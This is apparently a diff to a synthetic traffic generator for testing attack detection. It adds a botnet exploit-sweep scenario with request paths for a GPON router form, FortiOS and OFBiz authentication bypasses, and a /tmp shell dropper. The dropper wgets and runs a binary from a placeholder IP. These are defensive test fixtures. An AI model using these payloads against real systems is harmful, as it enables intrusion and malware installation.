@@ -1609,6 +1609,23 @@ def a_ssrf_metadata(ctx: Ctx) -> Traffic:
     return traffic(lines, ip)
 
 
+def a_botnet_exploit_sweep(ctx: Ctx) -> Traffic:
+    """A key that found its way onto a botnet's scanner: the exploits honeypots see most, each once and
+    unrouted (404): a router's diagnostics form, a shell dropper into /tmp, FortiOS's and OFBiz's
+    authentication bypasses."""
+    ip, me, agent = ctx.ip(), ctx.account_id, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"
+    sweep = [
+        "/GponForm/diag_Form?images/",
+        "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.23/bins/x86;chmod+777+x86;./x86",
+        "/api/v2/cmdb/system/admin/admin",
+        "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y",
+    ]
+    start = ctx.end_ms - 20 * MIN
+    return traffic(
+        [Line(start + i * 3 * MIN, ip, p, "-", me, 404, agent, length=90) for i, p in enumerate(sweep)], ip
+    )
+
+
 def a_key_stuffing(ctx: Ctx) -> Traffic:
     ip = ctx.ip()
     lines = [Line(at, ip, "/me", "/me", ctx.key_hash(f"k{i}"), 403, "python-requests/2.31.0", length=60)
@@ -2830,6 +2847,14 @@ SCENARIOS: list[Scenario] = [
         "standard",
         "60 injections in a live route's query in two minutes, declined 400 by its validation",
         a_sqli_declined,
+        ("D1",),
+    ),
+    Scenario(
+        "botnet-exploit-sweep",
+        A,
+        "standard",
+        "one request each for a GPON router's form, a /tmp dropper, FortiOS's and OFBiz's bypasses (404)",
+        a_botnet_exploit_sweep,
         ("D1",),
     ),
     Scenario(
